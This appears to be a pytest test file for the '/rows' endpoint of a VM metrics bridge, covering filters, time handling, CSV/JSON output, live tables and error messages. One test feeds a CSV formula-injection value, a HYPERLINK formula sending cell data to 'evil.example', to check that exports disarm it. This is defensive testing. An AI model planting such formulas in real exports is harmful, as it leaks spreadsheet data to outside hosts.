"""``/rows``: parameters, columns, forms, limits, and refusals instead of silence."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from itertools import pairwise
from typing import TYPE_CHECKING, Any

import httpx
import pytest

from bridge.catalog import SERVICE_LABELS, catalogue
from bridge.doors.doorway import Limits
from bridge.doors.parameters import PARAMETERS
from bridge.doors.rows import OWN_COLUMNS, wants_csv
from bridge.engine.filters import match_all
from bridge.errors import UpstreamError, UpstreamTimeoutError
from bridge.ovh.live import LIVE_KINDS, live_columns
from bridge.ovh.objects import Snapshot
from tests.doors.stand import CPU, DC1, NOW, SERVICE, MemorySource, make_app, small_company
from tests.doors.test_http import assert_union
from tests.servers import serving

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence

    from bridge.model import TagFilter

Ask = Any


@pytest.fixture(scope="session")
def get(client: httpx.Client, base: str) -> Callable[..., httpx.Response]:
    """Ask ``/rows`` with parameters, a list for one that is repeated."""
    return lambda **parameters: client.get(
        f"{base}/rows", params={name.removesuffix("_"): one for name, one in parameters.items()}
    )


def rows_of(response: httpx.Response) -> list[dict[str, Any]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/json"
    found: list[dict[str, Any]] = response.json()
    return found


def column(response: httpx.Response, name: str) -> set[Any]:
    return {row[name] for row in rows_of(response)}


# --- rows --------------------------------------------------------------------------------


def test_one_row_a_point_sorted_by_time_over_all_series(get: Ask) -> None:
    rows = rows_of(get(metric=CPU, from_="now-10m"))
    assert rows[0] == {
        "time": (NOW - 600) * 1000,
        "datacenter": DC1,
        "vm": "vm-101",
        "service": SERVICE,
        "vm_name": "web01",
        "metric": CPU,
        "value": 1.0,
    }
    assert [row["time"] // 1000 - NOW for row in rows] == [*[-600] * 4, *[-300] * 4, *[0] * 4]
    assert [row["vm"] for row in rows[:4]] == ["vm-101", "vm-102", "vm-103", "vm-104"]


def test_a_gap_is_no_row(get: Ask) -> None:
    for fill in ("none", "nan", "null"):
        rows = rows_of(get(metric=CPU, vm="vm-103", from_="now-4h", step="5m", fill=fill))
        assert len(rows) == 49 - 12
        assert all(row["value"] == 3.0 for row in rows)
    filled = rows_of(get(metric=CPU, vm="vm-103", from_="now-4h", step="5m", fill="zero"))
    assert len(filled) == 49


def test_nothing_found_is_an_empty_list(get: Ask) -> None:
    assert rows_of(get(metric=CPU, vm="vm-999")) == []
    assert get(metric=CPU, vm="vm-999", format="csv").text == (
        "time,datacenter,vm,service,vm_name,metric,value\r\n"
    )


@pytest.mark.parametrize(
    ("parameters", "machines"),
    [
        ({"vm": "vm-101"}, {"vm-101"}),
        ({"vm": ["vm-101", "vm-102"]}, {"vm-101", "vm-102"}),
        ({"vm": "{vm-101,vm-102}"}, {"vm-101", "vm-102"}),
        ({"vm": "(vm-101|vm-102)"}, {"vm-101", "vm-102"}),
        ({"vm": "vm-101|vm-102"}, {"vm-101", "vm-102"}),
        ({"vm": "*"}, {"vm-101", "vm-102", "vm-103", "vm-104"}),
        ({"vm": ""}, {"vm-101", "vm-102", "vm-103", "vm-104"}),
        ({"vm_name": "web*"}, {"vm-101", "vm-102"}),
        ({"vm_name": "db.main (old)"}, {"vm-103"}),
        ({"cluster": "prod", "vm_name": "*02"}, {"vm-102"}),
        ({"filters": "cluster=prod"}, {"vm-101", "vm-102"}),
        ({"filters": "cluster=prod,vm=vm-1*"}, {"vm-101", "vm-102"}),
        ({"filters": "{cluster=prod}{vm=vm-102}"}, {"vm-102"}),
        ({"filters": "vm_name=not_literal_or(web01|gone)"}, {"vm-102", "vm-103"}),
        ({"service": SERVICE, "filters": "vm=vm-104"}, {"vm-104"}),
    ],
    ids=lambda value: str(sorted(value) if isinstance(value, set) else value),
)
def test_filters(get: Ask, parameters: dict[str, Any], machines: set[str]) -> None:
    assert column(get(metric=CPU, **parameters), "vm") == machines


def test_a_target_says_the_same(get: Ask) -> None:
    target = f"max:10m-max:{CPU}{{cluster=*}}{{vm_name=web*|db*}}"
    parts = {"metric": CPU, "aggregator": "max", "step": "10m", "function": "max"}
    parts |= {"group_by": "cluster", "vm_name": "web*|db*"}
    assert rows_of(get(target=target)) == rows_of(get(**parts))
    assert rows_of(
        get(target=f"max:{CPU}", step="10m-max", filters="{cluster=*}{vm_name=web*|db*}")
    )
    assert get(metric=target).json() == get(target=target).json()


@pytest.mark.parametrize(
    ("parameters", "columns"),
    [
        ({}, ["datacenter", "vm", "service", "vm_name"]),
        ({"cluster": "*"}, ["datacenter", "vm", "service", "vm_name", "cluster"]),
        ({"group_by": "host_name"}, ["datacenter", "vm", "service", "vm_name", "host_name"]),
        ({"aggregator": "avg"}, []),
        ({"aggregator": "avg", "vm": "*"}, []),
        ({"aggregator": "avg", "vm": "vm-101"}, ["vm"]),
        ({"aggregator": "avg", "group_by": "cluster"}, ["cluster"]),
        ({"aggregator": "avg", "group_by": ["cluster", "folder"]}, ["cluster", "folder"]),
        ({"aggregator": "avg", "group_by": "vm", "filters": "vm=vm-10*"}, None),
        ({"aggregator": "avg", "group_by": "datacenter"}, ["datacenter", "service"]),
        ({"target": f"{CPU} as {{{{vm_name}}}}"}, ["datacenter", "vm", "service", "vm_name", ""]),
    ],
    ids=str,
)
def test_label_columns_follow_from_the_question(
    get: Ask, parameters: dict[str, Any], columns: list[str] | None
) -> None:
    if columns is None:
        columns = ["datacenter", "vm", "service", "vm_name"]
    question = parameters if "target" in parameters else {"metric": CPU, **parameters}
    rows = rows_of(get(**question))
    expected = ["time", *(name or "legend" for name in columns), "metric", "value"]
    assert all(list(row) == expected for row in rows)
    assert len({tuple(row.values())[:-1] for row in rows}) == len(rows)


def test_a_legend_is_a_column(get: Ask) -> None:
    names = column(get(target=f"{CPU}{{vm_name=web*}} as CPU of {{{{vm_name}}}}"), "legend")
    assert names == {"CPU of web01", "CPU of web02"}


def test_network_cards_are_told_apart(get: Ask) -> None:
    rows = rows_of(get(metric="vscope.host.net.tx", from_="now-1m"))
    assert {(row["host"], row["nicname"]) for row in rows} == {
        (f"172.17.86.5{host}", f"vmnic{nic}") for host in (1, 2) for nic in (0, 1)
    }


class Elsewhere(MemorySource):
    """A store with a metric of its own, whose labels are called like columns of ours."""

    def _matching(self, metric: str, filters: Sequence[TagFilter]) -> list[dict[str, str]]:
        stored = [
            {"value": "a", "time": "t", "site": "north", "label_time": "x"},
            {"value": "b", "metric": "m", "site": "north"},
        ]
        matches = match_all(filters)
        return [tags for tags in stored if metric == "sales" and matches(tags)]


def test_metrics_outside_the_catalogue_have_the_columns_of_their_labels() -> None:
    app = make_app(Elsewhere(), any_metric=True)
    with serving(app) as url, httpx.Client(base_url=f"{url}/rows") as client:

        def rows(**asked: Any) -> list[dict[str, Any]]:
            parameters = {"metric": "sales", "from": "now-1m", **asked}
            return rows_of(client.get("", params=parameters))

        first, second = rows()
        assert first == {
            "time": NOW * 1000,
            "label_time": "x",
            "label_metric": "",
            "site": "north",
            "label_label_time": "t",
            "label_value": "a",
            "metric": "sales",
            "value": 1.0,
        }
        assert second["label_metric"] == "m"
        assert [row["label_value"] for row in rows(filters="value=b")] == ["b"]
        assert [row["site"] for row in rows(aggregator="sum", group_by="site")] == ["north"]
        sums = rows(aggregator="sum", filters="{value=*}{site=north}")
        assert list(sums[0]) == ["time", "site", "label_value", "metric", "value"]
        assert [row["label_value"] for row in sums] == ["a", "b"]
        error = assert_union(client.get("", params={"metric": "sales", "site": "north"}), 400)
        assert "no parameter or label 'site'" in error["message"]
        error = assert_union(client.get("", params={"metric": "sales", "filters": "sit=n"}), 400)
        assert "did you mean site?" in error["message"]


# --- time --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("start", "end"),
    [
        (NOW - 3600, NOW),
        ((NOW - 3600) * 1000, NOW * 1000),
        ("2026-01-01T05:00:00Z", "2026-01-01T06:00:00.000Z"),
        ("2026-01-01T06:00:00+01:00", "now"),
        ("2026-01-01T05:00", ""),
        ("now-1h", "now"),
        ("", ""),
    ],
)
def test_times(get: Ask, start: Any, end: Any) -> None:
    stamps = column(get(metric=CPU, from_=start, to=end), "time")
    assert (min(stamps), max(stamps)) == ((NOW - 3600) * 1000, NOW * 1000)


def test_times_without_offset_and_calendar_steps_are_of_the_time_zone(get: Ask) -> None:
    asked = {"metric": CPU, "vm": "vm-101", "timezone": "Asia/Tokyo", "step": "1dc"}
    rows = rows_of(get(**asked, from_="2026-01-01T00:00", to="2026-01-01T14:00"))
    assert [row["time"] for row in rows] == [1_767_193_200_000]  # midnight in Tokyo


@pytest.mark.parametrize(
    ("parameters", "step_s"),
    [
        ({}, 300),
        ({"step": "$__interval"}, 300),
        ({"step": "${__interval}"}, 300),
        ({"step": "$__interval_ms", "interval": "${__interval_ms}"}, 300),
        ({"step": ""}, 300),
        ({"interval": "1s"}, 300),
        ({"interval": "20m"}, 1200),
        ({"interval": "601000"}, 900),
        ({"points": "6", "from_": "now-6h"}, 3600),
        ({"points": "${__maxDataPoints}"}, 300),
        ({"step": "10m"}, 600),
        ({"step": "1h-max"}, 3600),
    ],
)
def test_a_step_is_kept_and_a_wish_is_rounded(
    get: Ask, parameters: dict[str, Any], step_s: int
) -> None:
    asked = {"metric": CPU, "vm": "vm-101", "from_": "now-2h", **parameters}
    stamps = sorted(column(get(**asked), "time"))
    assert {after - before for before, after in pairwise(stamps)} == {step_s * 1000}


def test_times_can_be_seconds_or_iso(get: Ask) -> None:
    asked = {"metric": CPU, "vm": "vm-101", "from_": "now-1m"}
    assert column(get(**asked, time_format="s"), "time") == {NOW}
    assert column(get(**asked, time_format="iso"), "time") == {"2026-01-01T06:00:00Z"}
    assert (
        get(**asked, time_format="iso", format="csv")
        .text.splitlines()[1]
        .startswith("2026-01-01T06:00:00Z,")
    )
    halves = get(metric=CPU, vm="vm-101", from_="now-9m", step="700ms", time_format="iso")
    assert {row["time"] for row in rows_of(halves)} == {
        "2026-01-01T05:54:59.600Z",
        "2026-01-01T05:59:59.900Z",
    }


# --- forms -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("form", "accepts", "expected"),
    [
        (None, [], False),
        (None, ["text/csv"], True),
        (None, ["application/json;q=0.9,text/plain"], False),
        (None, ["text/html,application/xhtml+xml,*/*;q=0.8"], False),
        (None, ["text/csv;q=0.5, application/json"], False),
        (None, ["text/csv, */*;q=0.1"], True),
        (None, ["text/csv, */*"], False),
        (None, ["text/csv;q=0"], False),
        (None, ["TEXT/CSV;header=present;Q=0.9", "application/json;q=0.1"], True),
        (None, ["text/csv;q=many"], False),
        ("json", ["text/csv"], False),
        ("csv", ["application/json"], True),
    ],
)
def test_the_form_is_negotiated(form: str | None, accepts: list[str], *, expected: bool) -> None:
    assert wants_csv(form, accepts) is expected


def test_csv_by_accept(client: httpx.Client, base: str) -> None:
    url = f"{base}/rows?metric={CPU}&vm=vm-101&from=now-1m"
    response = client.get(url, headers={"Accept": "text/csv"})
    assert response.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert response.headers["vary"] == "Accept"
    assert response.text == (
        "time,datacenter,vm,service,vm_name,metric,value\r\n"
        f"{NOW * 1000},{DC1},vm-101,{SERVICE},web01,{CPU},1.0\r\n"
    )
    assert client.get(url, headers={"Accept": "application/json"}).json()


@pytest.mark.parametrize(
    ("name", "written"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)'),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("＝1", "'＝1"),  # noqa: RUF001 -- full width
        ('say "hi", then\nleave', 'say "hi", then\nleave'),
        ("O'Neill; héhé €", "O'Neill; héhé €"),
    ],
)
def test_csv_quotes_and_disarms_formulas(name: str, written: str) -> None:
    company = small_company()
    (service,) = company.services.values()
    place = service.datacenters[1]
    seen = place.vms[101]
    renamed = replace(seen, value=seen.value.model_copy(update={"name": name}))
    place = replace(place, vms={101: renamed})
    service = replace(service, datacenters={1: place})
    company = Snapshot({SERVICE: service}, version=2)
    with serving(make_app(snapshot=company)) as url, httpx.Client(base_url=url) as client:
        for question, column_name in ((CPU, "vm_name"), ("live:vm", "name")):
            asked = {"metric": question, "vm": "vm-101"}
            assert {row[column_name] for row in rows_of(client.get("/rows", params=asked))} == {
                name
            }
            text = client.get("/rows", params={**asked, "format": "csv"}).text
            read = list(csv.DictReader(io.StringIO(text, newline="")))
            assert {row[column_name] for row in read} == {written}
            assert all(None not in row for row in read)


# --- bodies ------------------------------------------------------------------------------


def test_a_body_is_json_whatever_it_is_called(client: httpx.Client, base: str) -> None:
    asked = {"metric": CPU, "vm": ["vm-101"], "cluster": None, "explicit_tags": False}
    asked |= {"from": NOW - 60, "to": NOW * 1000.0, "filters": {"vm_name": ["web01", "web02"]}}
    for content_type in ("application/json", "text/plain", "application/x-www-form-urlencoded"):
        headers = {"Content-Type": content_type}
        response = client.post(f"{base}/rows", content=json.dumps(asked), headers=headers)
        assert column(response, "vm_name") == {"web01"}


def test_address_and_body_together(client: httpx.Client, base: str) -> None:
    url = f"{base}/rows?metric={CPU}&from=now-1m"
    assert column(client.post(url, json={"vm": "vm-101"}), "vm") == {"vm-101"}
    assert rows_of(client.post(url, json={"metric": CPU}))
    assert rows_of(client.post(url, content=b""))
    error = assert_union(client.post(url, json={"from": "now-2m"}), 400)
    assert error["field"] == "from"
    assert "say different things" in error["message"]


# --- live tables ---------------------------------------------------------------------------


def test_live_rows(get: Ask) -> None:
    rows = rows_of(get(target="live:vm{cluster=prod}"))
    assert [row["name"] for row in rows] == ["web01", "web02"]
    assert list(rows[0]) == [one.name for one in live_columns("vm")]
    assert rows[0]["guest_os"] == ""
    assert rows[0]["cpu_usage_percent"] is None
    assert rows[0]["age"] == 30.0
    for step in ("", "$__interval"):
        asked = {"metric": "live:vm", "cluster": "prod", "from_": "now-1h", "step": step}
        assert rows_of(get(**asked)) == rows
    assert column(get(metric="live:vm", vm_name="web*"), "vm") == {"vm-101", "vm-102"}
    assert len(rows_of(get(metric="live:vm", hidden="true"))) == 4


def test_times_of_live_tables_follow_the_time_format(get: Ask) -> None:
    asked = {"target": "live:task{name=hostUpdate}"}
    (task,) = rows_of(get(**asked))
    assert task["executed_at"] == (NOW - 7200) * 1000
    assert task["maintenance_from"] is None
    assert rows_of(get(**asked, time_format="s"))[0]["executed_at"] == NOW - 7200
    assert rows_of(get(**asked, time_format="iso"))[0]["executed_at"] == "2026-01-01T04:00:00Z"
    assert "2026-01-01T04:00:00Z" in get(**asked, time_format="iso", format="csv").text


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        ({"state": "failed", "problem": "no connection"}, "is failed: no connection"),
        ({"state": "partial", "problem": "vm: 500"}, "is partial: vm: 500"),
        ({"state": "warming", "polled_at": None}, "has not been read yet"),
        ({"polled_at": NOW - 901}, "was last read 901 s ago, more than 900 s"),
    ],
)
def test_live_rows_are_fresh_and_complete_or_none(changes: dict[str, Any], words: str) -> None:
    company = small_company()
    (service,) = company.services.values()
    stale = replace(service, **changes)
    other = replace(service, name="pcc-2", datacenters={})
    both = Snapshot({SERVICE: stale, "pcc-2": other}, version=2)
    with serving(make_app(snapshot=both)) as url, httpx.Client(base_url=url) as client:
        response = client.get("/rows?target=live:vm")
        assert words in assert_union(response, 503)["message"]
        assert response.headers["retry-after"]
        assert rows_of(client.get("/rows?target=live:vm&service=pcc-2")) == []
        states = rows_of(client.get("/rows?target=live:service"))
        assert {row["name"]: row["poll_state"] for row in states} == {
            SERVICE: stale.state,
            "pcc-2": "ok",
        }


def test_an_expired_service_has_no_live_rows_and_blocks_nobody() -> None:
    company = small_company()
    (service,) = company.services.values()
    expired = replace(service, name="pcc-2", state="expired", problem="expired")
    both = Snapshot({SERVICE: service, "pcc-2": expired}, version=2)
    with serving(make_app(snapshot=both)) as url, httpx.Client(base_url=url) as client:
        assert column(client.get("/rows?target=live:vm"), "service") == {SERVICE}


def test_an_inventory_that_may_lack_services_gives_no_live_rows() -> None:
    for snapshot in (Snapshot(), replace(small_company(), unlisted=("canada",))):
        with serving(make_app(snapshot=snapshot)) as url:
            response = httpx.get(f"{url}/rows?target=live:vm")
            assert_union(response, 503)
    assert "'canada'" in response.text


# --- refusals ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("parameters", "field", "words"),
    [
        ({}, "metric", "expected a metric"),
        ({"metric": ""}, "metric", "expected a metric"),
        ({"metric": CPU, "target": CPU}, "target", "either a metric or a target"),
        ({"metric": [CPU, CPU]}, "metric", "expected one value, found 2"),
        ({"metric": "vscope.vm.cpu.usage"}, "metric", f"did you mean {CPU}"),
        ({"target": f"{CPU}{{vm=}}"}, "target", "expected a value"),
        ({"target": "live:vms"}, "target", "did you mean vm?"),
        ({"metric": CPU, "agregator": "avg"}, None, "did you mean aggregator?"),
        ({"metric": CPU, "clustr": ""}, None, "did you mean cluster?"),
        ({"metric": CPU, "host": "a"}, None, "no parameter or label 'host'"),
        ({"metric": CPU, "aggregator": "mean"}, "aggregator", "there is no aggregator 'mean'"),
        ({"metric": CPU, "group_by": "rack"}, "group_by", "no label 'rack' to group by"),
        ({"metric": CPU, "step": "300"}, "step", "expected"),
        ({"metric": CPU, "step": "5m-max", "function": "max"}, "step", "names the function"),
        ({"metric": CPU, "function": "mean"}, "function", "there is no function 'mean'"),
        ({"metric": CPU, "fill": "previous"}, "fill", "there is no fill 'previous'"),
        ({"metric": CPU, "rate": "often"}, "rate", "expected rate"),
        ({"metric": CPU, "interval": "0all"}, "interval", "such as 5m"),
        ({"metric": CPU, "interval": "5m-avg"}, "interval", "such as 5m"),
        ({"metric": CPU, "interval": "1dc"}, "interval", "such as 5m"),
        ({"metric": CPU, "interval": "0"}, "interval", "above 0"),
        ({"metric": CPU, "interval": "fast"}, "interval", "expected an interval"),
        ({"metric": CPU, "points": "-1"}, "points", "above 0"),
        ({"metric": CPU, "from": "yesterday"}, "from", "is no time"),
        ({"metric": CPU, "from": "now", "to": "now-1h"}, "to", "ends before it starts"),
        ({"metric": CPU, "to": "2300-01-01"}, "to", "1970 to 2200"),
        ({"metric": CPU, "from": "${__from}"}, "from", "${__timeFrom}"),
        ({"metric": CPU, "to": "${__timeTo:date:iso}"}, "to", "Infinity replaces"),
        ({"metric": CPU, "timezone": "Moon/Sea"}, "timezone", "no such timezone"),
        ({"metric": CPU, "format": "xml"}, "format", "accepted: json, csv"),
        ({"metric": CPU, "time_format": "us"}, "time_format", "accepted: ms, s, iso"),
        ({"metric": CPU, "vm": "$vm"}, "vm", "alert rules have no variables"),
        ({"metric": CPU, "vm": "${vm:csv}"}, "vm", "has not replaced ${vm:csv}"),
        ({"target": f"avg:{CPU}{{vm=$vm}}"}, "target", "has not replaced $vm"),
        ({"target": "$metric"}, "target", "has not replaced $metric"),
        ({"metric": CPU, "step": "$__rate_interval"}, "step", "has not replaced"),
        ({"metric": CPU, "filters": "{vm=a,rack=*}"}, "metric", "has no label 'rack'"),
        ({"metric": CPU, "filters": "vm"}, "filters", "expected '='"),
        ({"metric": CPU, "filters": "vm=a,"}, "filters", "expected a label"),
        ({"metric": CPU, "filters": "vm=a}"}, "filters", "'}' without '{'"),
        ({"metric": CPU, "filters": "{vm=a} {"}, "filters", "expected the end"),
        ({"metric": CPU, "filters": "{vm=a"}, "filters", "not closed"),
        ({"metric": CPU, "filters": "vm=a", "vm": "b"}, "vm", "more than one place"),
        ({"metric": CPU, "vm": "regexp(*)"}, "metric", "not a regular expression"),
        ({"metric": CPU, "hidden": "true"}, None, "no parameter or label 'hidden'"),
        ({"target": "live:vm", "aggregator": "avg"}, "aggregator", "live tables do not"),
        ({"target": "live:vm", "rack": "a"}, None, "no parameter or column 'rack'"),
        ({"target": "live:vm", "hidden": "maybe"}, "hidden", "there is no hidden 'maybe'"),
        ({"metric": CPU, "rate": "rate", "target": ""}, "", ""),
    ],
    ids=str,
)
def test_what_cannot_be_answered_is_refused_with_its_place(
    get: Ask, parameters: dict[str, Any], field: str | None, words: str
) -> None:
    response = get(**{f"{name}_" if name == "from" else name: v for name, v in parameters.items()})
    if field == "":
        assert response.status_code == 200
        return
    error = assert_union(response, 400)
    assert error.get("field") == field
    assert words in error["message"]


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"metric=x", "not JSON"),
        (b"[1]", "expected a JSON object, found a list"),
        (b'{"metric": {"a": 1}}', "expected a text, found an object"),
        (b'{"vm": [["a"]], "metric": "x"}', "expected a text, found a list"),
        (b'{"filters": {"vm": {}}}', "expected a text, found an object"),
    ],
)
def test_bodies_that_cannot_be_read(
    client: httpx.Client, base: str, content: bytes, words: str
) -> None:
    assert words in assert_union(client.post(f"{base}/rows", content=content), 400)["message"]


def test_dollars_that_are_no_variables_are_text(get: Ask) -> None:
    for value in ("price$list", r"\$RECYCLE", "regexp(^web01$)", "regexp(^web01$|^web02$)"):
        assert get(metric=CPU, vm_name=value).status_code == 200
    assert column(get(metric=CPU, vm_name="regexp(^web01$)"), "vm") == {"vm-101"}


def test_too_many_rows_say_how_to_ask_for_less() -> None:
    limits = Limits(max_rows=100)
    with serving(make_app(limits=limits)) as url, httpx.Client(base_url=url) as client:
        error = assert_union(client.get(f"/rows?metric={CPU}&from=now-6h"), 413)
        assert "280 rows, more than the limit of 100 (setting max_rows)" in error["message"]
        assert "step=15m" in error["message"]
        rows = rows_of(client.get(f"/rows?metric={CPU}&from=now-6h&step=15m"))
        assert 0 < len(rows) <= 100
        calendar = assert_union(client.get(f"/rows?metric={CPU}&from=now-60d&step=1dc"), 413)
        assert "take a wider step, narrow" in calendar["message"]
    with serving(make_app(limits=Limits(max_rows=2))) as url:
        assert_union(httpx.get(f"{url}/rows?target=live:vm"), 413)


@pytest.mark.parametrize(
    ("failure", "status"),
    [(UpstreamError("OVHcloud refused"), 502), (UpstreamTimeoutError("too slow"), 504)],
)
def test_a_failing_history_is_no_empty_answer(failure: Exception, status: int) -> None:
    with serving(make_app(MemorySource(failure=failure))) as url:
        error = assert_union(httpx.get(f"{url}/rows?metric={CPU}"), status)
    assert error["field"] == "metric"


def test_no_label_or_column_has_the_name_of_a_parameter() -> None:
    labels = {key for metric in catalogue().values() for key in metric.all_labels}
    columns = {one.name for kind in LIVE_KINDS for one in live_columns(kind)} | {"hidden"}
    assert not set(PARAMETERS) & (labels | columns | SERVICE_LABELS)
    assert not set(OWN_COLUMNS) & labels
